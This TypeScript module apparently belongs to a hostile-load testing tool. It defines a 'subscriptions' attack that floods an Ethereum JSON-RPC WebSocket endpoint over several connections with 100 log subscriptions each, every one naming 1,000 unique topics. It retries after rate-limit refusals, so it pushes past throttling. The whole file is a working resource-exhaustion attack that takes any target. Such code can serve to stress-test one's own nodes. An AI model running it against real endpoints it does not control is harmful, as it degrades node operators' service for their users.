import type { HostileAttack } from '../hostileAttack.ts'
import { encodeFrame, type HostileWebSocket, keepWebSockets, OPCODE } from '../webSocket.ts'

const SUBSCRIPTIONS_OF_CONNECTION = 100
const TOPICS = 1_000
const TOPIC_DIGITS = 64
/** Pause after a refusal for the rate. */
const RETRY_MS = 50

/** A subscription to logs with topics that no other has, and no log. */
function subscribe(index: number): Buffer {
  const topicOf = (at: number) => `0x${(index * TOPICS + at).toString(16).padStart(TOPIC_DIGITS - 2, '0')}ff`
  const topics = [Array.from({ length: TOPICS }, (_, at) => topicOf(at))]
  const body = { jsonrpc: '2.0', id: 1, method: 'eth_subscribe', params: ['logs', { topics }] }
  return encodeFrame(OPCODE.text, Buffer.from(JSON.stringify(body)))
}

/** Subscribes, one after the other, until the connection has all subscriptions. */
function subscribeAll(webSocket: HostileWebSocket, first: number, onDone: () => void): void {
  let made = 0
  const send = () => void webSocket.socket.write(subscribe(first + made))
  webSocket.onMessage = (payload) => {
    if (payload.includes('"method":"eth_subscription"')) return
    if (payload.includes('"error"')) return void setTimeout(send, RETRY_MS)
    if (++made < SUBSCRIPTIONS_OF_CONNECTION) send()
    else onDone()
  }
  send()
}

export const subscriptions: HostileAttack = {
  name: 'subscriptions',
  title: 'subscriptions to logs, 100 of 1,000 topics each',
  connections: { full: 10, small: 1 },
  begin(target, count) {
    let opened = 0
    let done = 0
    return new Promise((resolve) => {
      keepWebSockets(target, count, (webSocket) =>
        subscribeAll(webSocket, SUBSCRIPTIONS_OF_CONNECTION * opened++, () => {
          if (++done === count) resolve()
        }),
      )
    })
  },
}
